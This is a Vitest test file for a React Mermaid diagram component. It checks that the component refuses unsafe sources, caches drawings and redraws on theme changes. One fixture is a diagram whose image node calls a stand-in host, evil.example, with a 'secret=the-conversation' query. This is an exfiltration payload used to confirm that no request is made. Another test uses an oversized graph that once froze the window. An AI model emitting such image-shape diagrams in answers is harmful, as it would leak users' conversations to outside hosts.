import { act, render, screen, waitFor } from '@testing-library/react';
import { afterEach, describe, expect, it, onTestFinished, vi } from 'vitest';
import { completeGraph } from '../testing/hostile-diagrams';
import { MermaidDiagram } from './MermaidDiagram';

const drawn = vi.hoisted(() => ({ calls: [] as Array<{ source: string; theme: string }> }));

// The layout itself (mermaid, in the diagram frame) is what must never run for a refused source: record every call.
vi.mock('./frame/diagram-frame-host', () => ({
  drawInFrame: (source: string, theme: string) => {
    drawn.calls.push({ source, theme });
    return Promise.resolve(`<svg xmlns="http://www.w3.org/2000/svg"><text>${theme}</text></svg>`);
  },
}));

afterEach(() => {
  drawn.calls.length = 0;
  delete document.documentElement.dataset.theme;
  vi.restoreAllMocks();
});

const IMAGE_SHAPE = 'flowchart TD\n  A@{ img: "https://evil.example/pixel.png?secret=the-conversation", h: 60 }\n  A --> B';

describe('MermaidDiagram', () => {
  it('never lays out a diagram with an img shape: no request, no remote <img>, the source and the reason as text', async () => {
    const fetchSpy = vi.spyOn(globalThis, 'fetch');
    const imageSpy = vi.spyOn(window, 'Image');
    const { container } = render(<MermaidDiagram source={IMAGE_SHAPE} fallback={<pre>{IMAGE_SHAPE}</pre>} />);
    await waitFor(() => expect(screen.getByTestId('mermaid-fallback').dataset.state).toBe('refused'));
    expect(screen.getByTestId('mermaid-fallback').textContent).toContain('never loaded from an answer');
    expect(drawn.calls).toEqual([]);
    expect(fetchSpy).not.toHaveBeenCalled();
    expect(imageSpy).not.toHaveBeenCalled();
    expect(container.querySelector('img')).toBeNull();
  });

  it('never lays out the 496-edge graph that froze the window: refused from its source, the code shown', async () => {
    const source = completeGraph(32);
    render(<MermaidDiagram source={source} fallback={<pre>{source}</pre>} />);
    await waitFor(() => expect(screen.getByTestId('mermaid-fallback').dataset.state).toBe('refused'));
    expect(screen.getByTestId('mermaid-fallback').textContent).toContain('more than 200 edges (496)');
    expect(drawn.calls).toEqual([]);
  });

  it('draws a source once: shown again, it comes from the cache at once', async () => {
    const source = 'flowchart TD\n  Cached --> Once';
    const first = render(<MermaidDiagram source={source} fallback={<pre />} />);
    await screen.findByTestId('mermaid-diagram');
    first.unmount();
    render(<MermaidDiagram source={source} fallback={<pre />} />);
    expect(screen.getByTestId('mermaid-diagram')).toBeTruthy();
    expect(drawn.calls.filter((call) => call.source === source)).toHaveLength(1);
  });

  it('is drawn again in the new theme after a light/dark switch', async () => {
    const source = 'flowchart TD\n  Theme --> Switch';
    document.documentElement.dataset.theme = 'light';
    render(<MermaidDiagram source={source} fallback={<pre />} />);
    await waitFor(() => expect(screen.getByTestId('mermaid-diagram').dataset.theme).toBe('light'));
    act(() => {
      document.documentElement.dataset.theme = 'dark';
    });
    await waitFor(() => expect(decodeURIComponent(screen.getByRole('img').getAttribute('src') ?? '')).toContain('<text>dark</text>'));
    expect(drawn.calls.filter((call) => call.source === source).map((call) => call.theme)).toEqual(['light', 'dark']);
  });

  // The window parses an SVG image on its main thread (a diagram at the caps: 30-50 ms). Parsed as
  // the drawing arrives, that is a task of its own, not part of the render that mounts the row.
  it('shows a drawing only once its image is parsed, and shows that same image', async () => {
    let decoded: () => void = () => undefined;
    const decodedSources: string[] = [];
    // jsdom has no decode(): give images the browser's, recording what is decoded.
    Object.defineProperty(HTMLImageElement.prototype, 'decode', {
      configurable: true,
      value(this: HTMLImageElement) {
        decodedSources.push(this.src);
        return new Promise<void>((resolve) => (decoded = resolve));
      },
    });
    onTestFinished(() => {
      delete (HTMLImageElement.prototype as { decode?: unknown }).decode;
    });
    const source = 'flowchart TD\n  Parsed --> First';
    render(<MermaidDiagram source={source} fallback={<pre />} />);
    await waitFor(() => expect(decodedSources).toHaveLength(1));
    expect(screen.queryByTestId('mermaid-diagram')).toBeNull();
    expect(screen.getByTestId('mermaid-fallback').dataset.state).toBe('drawing');
    act(() => decoded());
    const image = await screen.findByRole('img');
    expect(image.getAttribute('src')).toBe(decodedSources[0]);
  });
});
